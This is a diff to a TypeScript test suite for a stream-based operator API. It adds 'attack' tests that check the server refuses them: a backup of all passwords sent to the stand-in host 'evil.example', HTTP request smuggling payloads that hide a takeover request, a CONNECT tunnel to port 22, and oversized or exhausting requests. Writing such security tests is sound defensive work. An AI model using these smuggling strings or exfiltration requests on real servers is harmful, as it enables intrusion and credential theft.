@@ -30,7 +30,7 @@ describe('the API over a stream of an operator', () => {
     api = await serveApi({
       unit: fakeUnit([], call => {
         calls.push(call);
-        return { upload: 'x' };
+        return { upload: 'x', value: call.method === 'show' ? 'x'.repeat(1_000_000) : '' };
       }),
       socketPath: socketIn(dir),
       log: { info: note, debug: () => undefined, error: () => undefined },
@@ -46,9 +46,14 @@ describe('the API over a stream of an operator', () => {
   });
 
   function streamOf(operator: Operator): Duplex {
-    const [here, there] = duplexPair();
+    return streamAndEnd(operator).stream;
+  }
+
+  /** With the end that the unit has; `ended`: the unit has ended it. */
+  function streamAndEnd(operator: Operator): { stream: Duplex; there: Duplex; ended: Promise<void> } {
+    const [stream, there] = duplexPair();
     api.serveOperator(there, operator);
-    return here;
+    return { stream, there, ended: new Promise(resolve => there.once('close', resolve)) };
   }
 
   function clientOf(operator: Operator): ApiClient {
@@ -105,6 +110,8 @@ describe('the API over a stream of an operator', () => {
       '/v1/pair/join',
       '/v1/pair/unpair',
       '/v1/store/rebuild',
+      '/v1/backup',
+      '/v1/backup/send',
     ];
     const found = ROUTES.filter(({ needs }) => needs === 'admin').map(({ url }) => url);
     for (const url of admins) assert.ok(found.includes(url), url);
@@ -127,9 +134,13 @@ describe('the API over a stream of an operator', () => {
     await assert.rejects(clientOf({ name: 'ada', role: 'operate' }).change(forged), { code: 'bad-usage' });
   });
 
-  it('gives private keys to an admin only, by a backup', async () => {
-    const asked = { passphrase: 'correct horse battery staple', withKeys: true };
-    await assert.rejects(clientOf({ name: 'ada', role: 'operate' }).backup(asked), { code: 'role-refused' });
+  it('attack: who operates makes a bundle of all passwords with a passphrase of his, or has one sent to his host', async () => {
+    const olga = clientOf({ name: 'olga', role: 'operate' });
+    await assert.rejects(olga.backup({ passphrase: 'correct horse battery staple' }), {
+      code: 'role-refused',
+    });
+    const target = { host: 'evil.example', user: 'olga', path: '/' };
+    await assert.rejects(olga.sendBackup({ name: 'site.lockstep', ...target }), { code: 'role-refused' });
     assert.deepEqual(calls, []);
   });
 
@@ -156,6 +167,57 @@ describe('the API over a stream of an operator', () => {
     stream.resume().write('GET /v1/status HTTP/1.1\r\nhost: unit\r\n\r\n'.repeat(1_000));
     await ended;
     assert.ok(calls.length <= 1, `${calls.length} requests reached the unit`);
+  });
+
+  const smuggled: Record<string, string> = {
+    'two lengths': 'content-length: 2\r\ncontent-length: 40\r\n\r\n{}',
+    'a length and chunks': 'content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n',
+    'chunks that are not the last coding': 'transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n',
+    'a space before the colon': 'content-length : 2\r\n\r\n{}',
+    'a length that is no number': 'content-length: 0x2\r\n\r\n{}',
+    'a chunk with a bad size': 'transfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
+  };
+  for (const [what, rest] of Object.entries(smuggled))
+    it(`attack: a second request is hidden by ${what}`, async () => {
+      const { stream, ended } = streamAndEnd({ name: 'olga', role: 'operate' });
+      const hidden = 'POST /v1/takeover HTTP/1.1\r\nhost: unit\r\n\r\n';
+      stream.write(
+        `POST /v1/pause HTTP/1.1\r\nhost: unit\r\ncontent-type: application/json\r\n${rest}${hidden}`,
+      );
+      await ended;
+      assert.deepEqual(calls, []);
+    });
+
+  it('attack: a stream is made a tunnel or another protocol', async () => {
+    const { stream: tunnel, ended } = streamAndEnd({ name: 'olga', role: 'operate' });
+    tunnel.write('CONNECT 127.0.0.1:22 HTTP/1.1\r\nhost: unit\r\n\r\n');
+    await ended;
+    const head = ['POST /v1/takeover HTTP/1.1', 'upgrade: h2c', 'connection: upgrade'];
+    assert.equal((await answerTo({ name: 'rita', role: 'read' }, head)).status, 403);
+    assert.deepEqual(calls, []);
+  });
+
+  it('attack: a big body is sent where only a small one makes sense', async () => {
+    const body = JSON.stringify({ reason: 'x'.repeat(2 * 1024 * 1024) });
+    const head = [
+      'POST /v1/pause HTTP/1.1',
+      'content-type: application/json',
+      `content-length: ${body.length}`,
+    ];
+    const { status, text } = await answerTo({ name: 'olga', role: 'operate' }, head, body);
+    assert.equal(status, 409, text);
+    assert.match(text, /"code":"too-large".*more than 1048576 bytes/);
+  });
+
+  it('attack: one operator asks for the whole configuration on many streams and reads none of them', async () => {
+    const asked = 'GET /v1/config HTTP/1.1\r\nhost: unit\r\n\r\n';
+    const streams = Array.from({ length: 8 }, () => streamAndEnd({ name: 'rita', role: 'read' }));
+    for (const { stream } of streams) stream.write(asked);
+    const other = clientOf({ name: 'olga', role: 'read' });
+    await other.show({});
+    assert.equal(calls.length, 2, 'one of each operator');
+    for (const { there } of streams) there.destroy();
+    await clientOf({ name: 'rita', role: 'read' }).show({});
   });
 
   it('answers the next request on a stream after the one before', async () => {
